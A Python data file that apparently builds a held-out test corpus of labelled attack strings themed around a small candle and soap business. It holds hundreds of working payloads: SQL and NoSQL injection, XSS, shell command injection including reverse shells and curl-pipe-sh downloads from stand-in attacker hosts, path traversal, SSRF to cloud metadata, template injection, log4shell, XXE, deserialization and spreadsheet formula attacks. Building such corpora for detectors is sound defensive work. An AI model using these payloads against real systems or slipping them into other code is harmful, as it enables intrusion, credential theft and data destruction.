#!/usr/bin/env python3
"""Attack values for the candlemaker held-out corpus (hand-written).

Each block line is "class|value" (split on the first "|"). U+23CE becomes a
newline, U+21E5 a tab, U+240D a carriage return. A few values per category are
made by joining a hand-written payload pool to hand-written theme prefixes, or
by percent-encoding every byte once (class suffix "+urlencode").
"""
import json
import os
import random

SEED = 28402
NL, TAB, CR = "\u23ce", "\u21e5", "\u240d"

BLOCKS = {}

BLOCKS["sqli"] = r"""
union|lavender' UNION SELECT sku, wholesale_price, NULL FROM price_list WHERE '1'='1
union|fig') union all select username,password_hash,3,4 from staff_users-- -
union|0 UNION SELECT table_name,column_name,null FROM information_schema.columns WHERE table_schema=database()#
union|candle%' UnIoN SeLeCt email,api_key,null,null FROM stockists-- 
union|-1 union/**/select/**/group_concat(email,0x3a,password)/**/from/**/customers
union|Sea Salt' /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,user()-- x
union|soap' union select null,concat(login,':',pw),null from admin limit 1 offset 0-- -
union|x') UNION SELECT name, sql, 1 FROM sqlite_master WHERE type='table'--
union|batch 12' UNION SELECT 1,load_file('/etc/passwd'),3-- -
union|1 UNION ALL SELECT NULL,NULL,NULL,string_agg(usename||':'||passwd,',') FROM pg_shadow--
union|oud' union(select(card_number),(expiry),(cvv)from(payments))-- -
union|tealight'+UNION+SELECT+1,table_name,3+FROM+information_schema.tables--+
boolean|LC-200' AND 1=1-- -
boolean|LC-200' AND substring((select password from staff_users where username='jess'),1,1)='a'-- -
boolean|fig' AND (SELECT COUNT(*) FROM customers) > 100 AND 'a'='a
boolean|4471 AND ascii(substr((select api_key from settings limit 1),3,1))>77
boolean|' OR 'x'='x
boolean|vanilla' or 2>1 #
boolean|admin'-- 
boolean|jess@wickandwhistle.com' OR 1=1 LIMIT 1-- -
boolean|x' OR username LIKE 'a%' AND '1'='1
boolean|1 or true
boolean|Rose & Oud'||'1'='1
boolean|candle' AND EXISTS(SELECT * FROM staff_users WHERE role='owner' AND pw LIKE '$2y$%')-- -
boolean|wick') OR ('q'='q
boolean|' oR/**/1/**/lIkE/**/1-- 
time|fig' AND SLEEP(6)-- -
time|1; SELECT pg_sleep(8)--
time|order 5520'; WAITFOR DELAY '0:0:7'--
time|lavender' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -
time|LC-200' AND IF(substring(user(),1,1)='r',BENCHMARK(9000000,MD5('wax')),0)-- -
time|1 AND 4411=(SELECT 4411 FROM PG_SLEEP(6))
time|soap') OR randomblob(300000000)-- 
time|x' || (select case when (1=1) then pg_sleep(5) else pg_sleep(0) end)--
time|amber'%2b(select*from(select(sleep(9)))a)%2b'
time|5520 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',7)
error|' AND extractvalue(1,concat(0x7e,(select version()),0x7e))-- -
error|fig' AND updatexml(null,concat(0x0a,(select database())),null)-- -
error|1 AND 1=CONVERT(int,(SELECT TOP 1 password FROM staff_users))--
error|batch' AND 1=cast((select string_agg(email,',') from customers) as int)--
error|x' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))y FROM information_schema.tables GROUP BY y)z)-- -
error|LC-200' and exp(~(select * from (select user())a))-- -
stacked|12; DROP TABLE orders;--
stacked|Lavender'; UPDATE price_list SET wholesale=0.01 WHERE sku LIKE 'LC%';--
stacked|order 7734'; INSERT INTO staff_users(username,pw,role) VALUES('wax','x','owner');--
stacked|1; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/w.ps1|iex';--
stacked|x'; COPY (SELECT '') TO PROGRAM 'curl 203.0.113.9/c|sh';--
stacked|soap'; SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/soap.php'-- -
stacked|Thanks!'; DELETE FROM stockist_messages; --
stacked|1;ALTER USER postgres WITH PASSWORD 'wax123';--
stacked|fig';EXEC('sp_configure ''show advanced options'',1;RECONFIGURE');--
stacked|Great candles'); DROP TABLE reviews; --
orderby|name, (CASE WHEN (SELECT substr(pw,1,1) FROM staff_users LIMIT 1)='a' THEN price ELSE sku END)
orderby|price ASC, IF((SELECT COUNT(*) FROM staff_users)>2,sleep(4),1)
orderby|1,(select 1 from pg_sleep(5))
orderby|sku desc limit 1 into outfile '/tmp/x'
orderby|(SELECT 1 FROM dual WHERE 1=(SELECT 1 FROM admin WHERE id=1 AND pw LIKE 'a%'))
encoded|fig%27%20or%20%271%27%3D%271
encoded|lavender%2527%2520union%2520select%2520password%2520from%2520staff_users--
encoded|candle\u0027 OR 1=1--
encoded|soap' Or 1 LiKe 1 -- 
encoded|x'/**/uNiOn/**/aLl/**/sElEcT/**/null,concat(0x757365723a,user()),null-- -
encoded|CHAR(39)+OR+1=1--
encoded|fig＇ ＯＲ １=１--
encoded|vanilla' || (SELECT CHR(65)||CHR(66) FROM dual)--
encoded|1%20AnD%20SlEeP(5)
inline|Please ship to 14 Mill St' OR (SELECT 1 FROM staff_users WHERE username='admin')='1
inline|Bloom & Bough', (SELECT group_concat(pw) FROM staff_users), 'x')-- -
inline|SOAP-OAT,"Oatmeal soap',(select password from staff_users limit 1),'",3.20,6.50
inline|Siobhán O'Brien' AND 0=1 UNION SELECT address,phone,email FROM customers-- -
inline|Order notes: fine'); UPDATE orders SET status='paid' WHERE id=4471;--
inline|2024-06-02' AND (SELECT 7291 FROM (SELECT(SLEEP(5)))abc)-- wkqz
oob|x'; EXEC master..xp_dirtree '\\sqli.attacker.example\wax';--
oob|fig' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM staff_users LIMIT 1),'.db.attacker.example\\a'))-- -
oob|1 AND (SELECT UTL_HTTP.REQUEST('http://198.51.100.4/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL
oob|candle'; COPY staff_users TO PROGRAM 'nslookup leak.attacker.example';--
""".strip("\n").split("\n")

BLOCKS["xss"] = r"""
script|<script>fetch('https://attacker.example/c?'+document.cookie)</script>
script|Love the fig candle!<script>new Image().src='//203.0.113.7/l?c='+encodeURIComponent(document.cookie)</script>
script|<ScRiPt>alert(document.domain)</sCrIpT>
script|</textarea><script>location='https://attacker.example/?'+localStorage.getItem('token')</script>
script|<script src=//attacker.example/wax.js></script>
script|<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94Jyk='))</script>
script|Lavender & Cedar</title><script>document.write('<img src=//attacker.example/?'+document.cookie+'>')</script>
script|<script>/*candle*/setTimeout('al'+'ert(1)',0)</script>
script|"><script>window.name&&eval(window.name)</script>
script|<script type="module">import('https://attacker.example/m.js')</script>
event|<img src=x onerror=alert(document.cookie)>
event|Fig & Cassis <img src="jar.png" onerror="fetch('//attacker.example/'+document.cookie)">
event|<svg onload=confirm(1)>
event|<svg/onload=location=`//attacker.example/?${document.cookie}`>
event|<body onload=alert('wax')>
event|<details open ontoggle=alert(document.domain)>
event|<input autofocus onfocus=alert(1) value="Sea Salt">
event|<video><source onerror="alert(1)"></video>
event|<marquee onstart=alert(1)>SALE 50% OFF</marquee>
event|<div style="width:1000px;height:1000px" onmouseover="alert(document.cookie)">hover for discount</div>
event|<iMg SrC=1 OnErRoR=prompt(1)>
event|<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
event|<audio src onerror=import('//attacker.example/a.js')>
event|<select autofocus onfocus=alert(1)><option>Lavender</option></select>
event|<svg><animate onbegin=alert(1) attributeName=x dur=1s>
event|<form><button formaction=javascript:alert(1)>Order now</button></form>
event|<img src=x:x onerror="this.src='//attacker.example/p?'+btoa(document.body.innerHTML)">
event|<object data=x onerror=alert(1)>
event|<table background=x onerror=alert(1)>
event|<img/src/onerror=alert`1`>
attr|" onmouseover="alert(1)" x="
attr|Fig' autofocus onfocus='alert(document.cookie)
attr|" style="position:fixed;inset:0" onclick="location='//attacker.example'" "
attr|Bloom & Bough"><img src=x onerror=alert(1)>
attr|x" onfocusin=alert(1) autofocus tabindex=1 "
attr|'><svg onload=alert(1)>
attr|"/><iframe src="javascript:alert(document.domain)">
attr|" accesskey="x" onclick="alert(1)" title="press alt+shift+x
uri|javascript:alert(document.cookie)
uri|JaVaScRiPt:fetch('//attacker.example/'+document.cookie)
uri|java&#x09;script:alert(1)
uri|javascript&colon;alert(1)
uri|<a href="javascript:void(fetch('//203.0.113.7/?'+document.cookie))">Our new shop</a>
uri|<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">price list</a>
uri|data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
uri|<iframe src="data:text/html,<script>alert(parent.document.cookie)</script>"></iframe>
uri|<embed src="javascript:alert(1)">
uri|<object data="data:text/html,<script>alert(1)</script>">
uri|https://www.harbourgifts.co.uk/" onclick="alert(1)
uri|<math><a xlink:href="javascript:alert(1)">click</a></math>
encoded|%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E
encoded|%253Csvg%2520onload%253Dalert(1)%253E
encoded|&lt;img src=x onerror=alert(1)&gt;
encoded|\u003cimg src=x onerror=alert(1)\u003e
encoded|\x3csvg onload=alert(1)\x3e
encoded|＜script＞alert(1)＜/script＞
encoded|<scr<script>ipt>alert(1)</scr</script>ipt>
encoded|<svg><script>&#x61;lert(1)</script></svg>
encoded|%u003Cscript%u003Ealert(1)%u003C/script%u003E
encoded|<img src=x onerror=\u0061lert(1)>
template|{{constructor.constructor('alert(document.cookie)')()}}
template|{{$on.constructor('fetch("//attacker.example/"+document.cookie)')()}}
template|<div ng-app ng-csp><input autofocus ng-focus="$event.view.alert(1)">
template|<div v-html="'<img src=x onerror=alert(1)>'"></div>
template|[[${T(java.lang.Runtime)}]] <img src=x onerror=alert(1)>
dom|#<img src=x onerror=alert(1)>
dom|"-alert(document.domain)-"
dom|';alert(String.fromCharCode(88,83,83));//
dom|</script><script>alert(1)</script>
dom|\";alert(1);//
dom|<noscript><p title="</noscript><img src=x onerror=alert(1)>">
dom|<svg><style><img src=x onerror=alert(1)></style></svg>
markdown|[Shop our sale](javascript:alert(document.cookie))
markdown|![jar](x" onerror="alert(1))
css|<style>@import 'https://attacker.example/x.css';</style>
css|<div style="background:url(javascript:alert(1))">Spiced Orange</div>
css|<link rel=stylesheet href=//attacker.example/s.css>
""".strip("\n").split("\n")

BLOCKS["cmdi"] = r"""
separator|lavender.png; cat /etc/passwd
separator|batch-0412.pdf && curl -s http://attacker.example/x.sh | sh
separator|fig | nc 203.0.113.5 4444 -e /bin/sh
separator|LC-200; wget -qO- http://198.51.100.22/k | bash
separator|label.pdf || id
separator|invoice_4471.pdf;rm -rf /var/www/uploads
separator|candle & ping -n 8 127.0.0.1 &
separator|report.csv%0Aid
separator|soap.jpg⏎cat /etc/shadow
separator|price-list.xlsx; bash -i >& /dev/tcp/203.0.113.40/9001 0>&1
separator|x;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.40",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
separator|a.png; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjQwLzkwMDEgMD4mMQ== | base64 -d | sh
separator|Sea Salt & Sage'; uname -a; echo '
separator|"; cat /var/www/.env; echo "
separator|jar.jpg;perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(9001,inet_aton("198.51.100.3")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i")'
separator|logo.svg&&whoami>/var/www/html/w.txt
separator|batch12;sleep 10
separator|candle$(sleep 7)
substitution|$(curl http://attacker.example/$(whoami))
substitution|`id`
substitution|Lavender `wget http://203.0.113.8/m -O /tmp/m; chmod +x /tmp/m; /tmp/m`
substitution|$(cat /etc/passwd | base64 -w0 | xargs -I{} curl attacker.example/?d={})
substitution|fig-$(nslookup $(hostname).cmd.attacker.example).png
substitution|$(echo${IFS}aWQ=|base64${IFS}-d|sh)
substitution|x$(printf '\x69\x64')
substitution|Order notes: `curl -d @/etc/passwd https://attacker.example/u`
substitution|<(curl -s attacker.example/p)
evasion|;cat${IFS}/etc/passwd
evasion|;c'a't /e"t"c/pa''sswd
evasion|;/???/c?t /???/p?ss??
evasion|;{cat,/etc/passwd}
evasion|a;w\h\o\a\m\i
evasion|;$'\x63\x61\x74' /etc/passwd
evasion|;X=$'cat\x20/etc/passwd'&&$X
evasion|;cat</etc/passwd
evasion|;ca$@t /et$@c/pas$@swd
evasion|;${PATH:0:1}bin${PATH:0:1}sh -c id
evasion|;curl${IFS%?}attacker.example/s|sh
evasion|;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3J8c2g= |base64 -d|sh
evasion|;tac$IFS/etc/passwd
evasion|;$(rev<<<'di')
evasion|%3Bcat%20%2Fetc%2Fpasswd
windows|label.pdf & type C:\Windows\win.ini
windows|soap.jpg | powershell -nop -c "iex(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
windows|& certutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\a.exe & %TEMP%\a.exe
windows|candle.png && net user wax Wax123! /add
windows|x | cmd /c whoami
windows|fig" & powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA &"
windows|&for /f %i in ('whoami') do nslookup %i.attacker.example
windows|| bitsadmin /transfer w http://attacker.example/w.exe C:\Users\Public\w.exe
windows|^&^ w^h^o^a^m^i
windows|report.csv & mshta http://198.51.100.7/x.hta
argument|--output=/var/www/html/shell.php http://attacker.example/shell.txt
argument|-o /var/www/html/s.php attacker.example/s
argument|--checkpoint=1 --checkpoint-action=exec=sh x.sh
argument|-oProxyCommand=curl attacker.example/s|sh
argument|--upload-pack='touch /tmp/pwn' 
argument|-exec sh -c 'id' ;
argument|jar.png -write /var/www/html/x.php
argument|--use-compress-program='sh -c id'
argument|-X POST -d @/etc/passwd https://attacker.example/u
argument|--post-file=/etc/shadow http://attacker.example/
imagick|push graphic-context⏎viewbox 0 0 640 480⏎fill 'url(https://attacker.example/x.jpg"|curl "attacker.example/s|sh)'⏎pop graphic-context
imagick|%!PS⏎userdict /setpagedevice undef⏎(%pipe%curl attacker.example/s | sh) (w) file
mail|jess@wickandwhistle.com -OQueueDirectory=/tmp -X/var/www/html/log.php
mail|"wax\" -oQ/tmp/ -X/var/www/html/x.php some\"@example.com
mail|a@b.c'; rm -f /tmp/x; mkfifo /tmp/x; cat /tmp/x | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/x; echo '
env|() { :; }; /bin/bash -c 'curl attacker.example/sh|sh'
env|() { _; } >_[$($())] { id; }
env|LD_PRELOAD=/tmp/wax.so lp -d labelprinter batch.pdf
newline|LC-200⏎wget http://attacker.example/x -O /tmp/x⏎sh /tmp/x
newline|fig.png⏍⏎id
""".strip("\n").split("\n")

BLOCKS["traversal"] = r"""
dotdot|../../../../etc/passwd
dotdot|labels/../../../../../etc/shadow
dotdot|sds/lavender-cedar-v4.pdf/../../../../../../proc/self/environ
dotdot|../../../../var/www/.env
dotdot|../../../config/database.yml
dotdot|..\..\..\..\windows\win.ini
dotdot|price-lists\..\..\..\..\inetpub\wwwroot\web.config
dotdot|batches/2024/../../../../../home/jess/.ssh/id_rsa
dotdot|../../../../root/.bash_history
dotdot|../../../../proc/self/cmdline
dotdot|../../../.git/config
dotdot|../../../../etc/nginx/nginx.conf
dotdot|invoice_4471.pdf/../../../../../../etc/hosts
dotdot|..//..//..//..//etc//passwd
dotdot|....//....//....//....//etc/passwd
dotdot|..././..././..././etc/passwd
dotdot|....\\....\\....\\windows\\system32\\drivers\\etc\\hosts
dotdot|/..;/..;/..;/etc/passwd
dotdot|labels/..;/..;/WEB-INF/web.xml
dotdot|../../../../../../usr/local/openresty/nginx/conf/nginx.conf
absolute|/etc/passwd
absolute|/proc/self/fd/3
absolute|C:\Windows\System32\config\SAM
absolute|file:///etc/passwd
absolute|/var/log/nginx/access.log
absolute|\\203.0.113.12\share\label.pdf
absolute|/home/jess/workshop/.aws/credentials
absolute|C:/inetpub/logs/LogFiles/W3SVC1/u_ex240101.log
encoded|..%2f..%2f..%2f..%2fetc%2fpasswd
encoded|%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow
encoded|..%252f..%252f..%252f..%252fetc%252fpasswd
encoded|%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron
encoded|..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded|%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded|..%u2215..%u2215..%u2215etc%u2215passwd
encoded|%u002e%u002e%u2216%u002e%u002e%u2216windows%u2216win.ini
encoded|..%5c..%5c..%5c..%5cwindows%5cwin.ini
encoded|．．／．．／．．／etc／passwd
encoded|..%e0%80%af..%e0%80%afetc%e0%80%afpasswd
nullbyte|../../../../etc/passwd%00.pdf
nullbyte|../../../../etc/passwd\u0000lavender.png
nullbyte|../../../../var/www/.env%00.csv
wrapper|php://filter/convert.base64-encode/resource=../config.php
wrapper|php://filter/read=string.rot13/resource=index.php
wrapper|zip:///var/www/uploads/labels.zip%23shell.php
wrapper|phar:///var/www/uploads/logo.jpg/x
wrapper|jar:file:///opt/app/lib/app.jar!/application.properties
""".strip("\n").split("\n")

BLOCKS["ssrf"] = r"""
metadata|http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata|http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
metadata|http://metadata.google.internal/computeMetadata/v1/?recursive=true
metadata|http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/
metadata|http://[fd00:ec2::254]/latest/meta-data/
metadata|http://169.254.170.2/v2/credentials/
metadata|http://100.100.100.200/latest/meta-data/ram/security-credentials/
metadata|http://169.254.169.254/openstack/latest/meta_data.json
altip|http://2852039166/latest/meta-data/
altip|http://0xA9FEA9FE/latest/user-data
altip|http://0251.0376.0251.0376/latest/meta-data/
altip|http://169.254.43518/latest/meta-data/
altip|http://[::ffff:a9fe:a9fe]/latest/meta-data/
altip|http://0x7f.1/admin
altip|http://2130706433:8080/actuator/env
altip|http://017700000001/server-status
altip|http://127.1/admin/users
altip|http://0/
altip|http://[::]:6379/
altip|http://①②⑦.⓪.⓪.①/admin
internal|http://localhost:9200/_cat/indices
internal|http://127.0.0.1:2375/containers/json
internal|http://10.0.0.5:8500/v1/agent/self
internal|http://192.168.1.1/cgi-bin/luci
internal|http://172.17.0.1:10250/pods
internal|http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal|http://redis:6379/
internal|http://localhost:8080/manager/html
internal|https://127.0.0.1:8443/admin/api/stockists/export
internal|http://internal-billing.local/invoices?all=1
internal|http://localhost/server-status
scheme|gopher://127.0.0.1:6379/_SET%20cron%20%22*%20*%20*%20*%20*%20curl%20attacker.example%2Fs%7Csh%22%0D%0ASAVE%0D%0A
scheme|gopher://localhost:3306/_%a3%00%00%01%85%a6%ff%01
scheme|dict://127.0.0.1:11211/stats
scheme|file:///proc/self/environ
scheme|ftp://10.0.0.12/backups/db.sql
scheme|ldap://127.0.0.1:389/dc=wickandwhistle,dc=local
scheme|tftp://198.51.100.9/wax.bin
scheme|netdoc:///etc/passwd
bypass|http://attacker.example@169.254.169.254/latest/meta-data/
bypass|http://169.254.169.254#@cdn.harbourgifts.co.uk/logo.svg
bypass|https://cdn.harbourgifts.co.uk.attacker.example/logo.svg
bypass|http://127.0.0.1.nip.io:8080/admin
bypass|http://rebind.attacker.example/latest/meta-data/
bypass|https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
bypass|http://localtest.me/admin
bypass|http://LOCALHOST:22/
bypass|http://127.0.0.1%2523@cdn.harbourgifts.co.uk/
bypass|http:/\/\169.254.169.254/latest/meta-data
bypass|Our logo is at http://[0:0:0:0:0:ffff:127.0.0.1]:8000/admin/export.csv
""".strip("\n").split("\n")

BLOCKS["code"] = r"""
ssti-jinja|{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}
ssti-jinja|Hi {{ cycler.__init__.__globals__.os.popen('curl attacker.example/s|sh').read() }}, thanks for your order
ssti-jinja|{{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja|{{ lipsum.__globals__["os"].popen("cat /etc/passwd").read() }}
ssti-jinja|{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti-jinja|{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f') }}
ssti-jinja|{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('whoami').read() }}
ssti-jinja|{{ namespace.__init__.__globals__.os.environ }}
ssti-jinja|{{7*'7'}}{{ config.items() }}
ssti-twig|{{ ['id']|filter('system') }}
ssti-twig|{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("curl attacker.example")}}
ssti-twig|{{ ['cat /etc/passwd']|map('passthru')|join }}
ssti-freemarker|<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker|${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["sh","-c","id"]).start()}
ssti-velocity|#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
ssti-erb|<%= `cat /etc/passwd` %>
ssti-erb|Dear <%= system('curl attacker.example/e|sh') %>,
ssti-smarty|{system('id')}
ssti-smarty|{php}echo shell_exec('id');{/php}
ssti-handlebars|{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-pug|#{global.process.mainModule.require('child_process').execSync('id')}
ssti-ejs|<%= process.mainModule.require('child_process').execSync('cat /etc/passwd') %>
ssti-mako|${__import__('os').popen('id').read()}
ssti-tornado|{% import os %}{{ os.popen('id').read() }}
ssti-razor|@System.Diagnostics.Process.Start("cmd.exe","/c whoami")
el|${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
el|#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}
el|*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
el|${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
el|%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el|${@java.lang.Runtime@getRuntime().exec("whoami")}
el|__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
el|{{ $eval('this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id")') }}
log4shell|${jndi:ldap://attacker.example:1389/wax}
log4shell|Lavender & Cedar ${jndi:rmi://203.0.113.21:1099/o}
log4shell|${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://198.51.100.5/a}
log4shell|${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/x}
log4shell|${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4.attacker.example}
log4shell|${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/c}
log4shell|${jnd${upper:ı}:ldaps://attacker.example/x}
log4shell|${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.21/b}
log4shell|%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
log4shell|User-Agent note: ${jndi:ldap://${hostName}.${sys:java.version}.attacker.example/p}
eval|__import__('os').system('curl attacker.example/s|sh')
eval|require('child_process').exec('nc 203.0.113.5 4444 -e /bin/sh')
eval|process.mainModule.require('fs').readFileSync('/etc/passwd').toString()
eval|'; system('id'); $x='
eval|<?php system($_GET['cmd']); ?>
eval|<?=`$_POST[w]`?>
eval|0.08; import os; os.system("id")
eval|8 * (__import__("subprocess").check_output("id", shell=True))
eval|Function("return this")().process.mainModule.require("child_process").execSync("id")
eval|eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))
proto|{"__proto__":{"isAdmin":true}}
proto|{"constructor":{"prototype":{"role":"owner"}}}
proto|__proto__[discount]=100
proto|constructor[prototype][shell]=/proc/self/exe
proto|{"scent":"fig","__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');s"}}
proto|{"__proto__":{"env":{"NODE_OPTIONS":"--require /proc/self/environ"},"shell":"node"}}
formula|=cmd|' /C calc'!A0
formula|=HYPERLINK("https://attacker.example/?d="&A2&B2,"Click for price update")
formula|+IMPORTXML(CONCAT("https://attacker.example/?", A1:D40), "//a")
formula|@SUM(1+1)*cmd|' /C powershell iwr attacker.example/x'!A1
formula|LC-200,"=WEBSERVICE(""https://attacker.example/""&B2)",9.50,19.00
formula|=DDE("cmd";"/C mshta http://203.0.113.11/x.hta";"wax")
formula|Fig & Cassis,200g,=IMAGE("https://attacker.example/t.png?"&C2),19.00
formula|=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''
formula|"=IMPORTDATA(""https://attacker.example/p.csv"")"
xxe|<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>
xxe|<!DOCTYPE r [<!ENTITY % d SYSTEM "https://attacker.example/e.dtd"> %d;]><pricelist/>
xxe|<?xml version="1.0"?><!DOCTYPE s [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]><sku>&m;</sku>
xxe|<!DOCTYPE x [<!ENTITY % p SYSTEM "php://filter/convert.base64-encode/resource=/var/www/.env"><!ENTITY % e "<!ENTITY &#x25; o SYSTEM 'http://attacker.example/?%p;'>">%e;%o;]><x/>
xxe|<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY l SYSTEM "file:///etc/hostname">]><text>&l;</text></svg>
xxe|<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
xxe|<!DOCTYPE lolz [<!ENTITY a "wax"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><n>&d;</n>
deser|rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==
deser|O:8:"Stockist":1:{s:4:"file";s:11:"/etc/passwd";}
deser|a:1:{i:0;O:21:"Monolog\Handler\Syslog":1:{s:9:"*ident";s:2:"id";}}
deser|{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}
deser|{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deser|!!python/object/apply:os.system ["curl attacker.example/y|sh"]
deser|--- !ruby/object:Gem::Requirement⏎requirements: !ruby/object:Gem::Package::TarReader⏎  io: !ruby/object:Net::BufferedIO⏎    io: !ruby/object:Gem::Package::TarReader::Entry {}
deser|cos⏎system⏎(S'id'⏎tR.
deser|{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
deser|!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
""".strip("\n").split("\n")

BLOCKS["nosqli"] = r"""
operator|{"$ne": null}
operator|{"email": "jess@wickandwhistle.com", "password": {"$ne": "x"}}
operator|{"$gt": ""}
operator|password[$ne]=wax
operator|username[$regex]=^adm&password[$gt]=
operator|{"sku": {"$in": ["LC-200"]}, "$or": [{"price": {"$lt": 0}}, {"_id": {"$exists": true}}]}
operator|{"username": {"$regex": "^j.*"}, "password": {"$regex": "^a"}}
operator|{"$or": [{}, {"role": "owner"}]}
operator|login[$nin][]=admin&pass[$exists]=true
operator|{"stockist": {"$exists": true}, "discount": {"$gte": 0}}
operator|{"token": {"$type": 2}}
where|{"$where": "sleep(5000) || true"}
where|'; return this.password.match(/^a/) && sleep(3000); var x='
where|{"$where": "this.role == 'owner' || '1'=='1'"}
where|fig'; while(true){}; var z='
where|1; return db.getCollectionNames();
where|{"$where": "function(){ return (this.api_key[0] == 'k'); }"}
aggregate|[{"$lookup": {"from": "staff_users", "localField": "x", "foreignField": "x", "as": "u"}}]
aggregate|{"$expr": {"$function": {"body": "function(){ return true }", "args": [], "lang": "js"}}}
aggregate|[{"$match": {}}, {"$out": "price_list"}]
js|Lavender' || '1'=='1
js|candle" && this.password.length > 0 && "a"=="a
js|"; db.orders.drop(); "
couch|{"selector": {"_id": {"$gt": null}}, "fields": ["email", "password"]}
operator|email=priya%40bloomandbough.co.uk&password%5B%24ne%5D=1
operator|{"search": {"$regex": ".*", "$options": "si"}, "$comment": "dump"}
operator|{"sku":"LC-200","price":{"$lte":9999},"$and":[{"owner":{"$ne":null}}]}
""".strip("\n").split("\n")

BLOCKS["crlf"] = r"""
log-forging|Lavender order⏎2024-10-03 08:00:00 INFO admin login succeeded user=jess ip=127.0.0.1
log-forging|fig⏍⏎[2024-11-01 12:00:00] AUDIT payment 4471 marked PAID by owner
log-forging|soap%0d%0a2024-10-03 09:12:44 INFO user=admin action=export_customers status=OK
